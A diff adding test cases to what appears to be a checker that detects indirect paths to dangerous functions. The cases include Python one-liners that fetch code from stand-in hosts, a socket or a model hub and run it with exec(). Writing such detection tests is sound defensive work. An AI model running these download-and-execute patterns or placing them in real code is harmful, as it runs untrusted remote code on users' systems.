@@ -143,6 +143,19 @@ describe('the checks hold indirect ways to dangerous functions', () => {
       node('exec(requests.get("https://" + ".".join(["e", "example"])).text)', 'import requests'),
     ],
     [
+      'code from a repository of models',
+      node('exec(open(hf_hub_download("a/b", "c.txt")).read())', 'from huggingface_hub import hf_hub_download'),
+    ],
+    [
+      'code from a socket',
+      node('s = socket.socket(); s.connect(("e.example", 9)); exec(s.recv(999))', 'import socket'),
+    ],
+    ['code from an address in a list', node('exec(requests.get(*["https://e.example"]).text)', 'import requests')],
+    [
+      'code from the address of a session',
+      node('exec(httpx.Client(base_url="https://e.example").get("/a").text)', 'import httpx'),
+    ],
+    [
       'code from a file that a service of models stores',
       node('exec(requests.get("https://api.openai.com/v1/files/a/content").text)', 'import requests'),
     ],
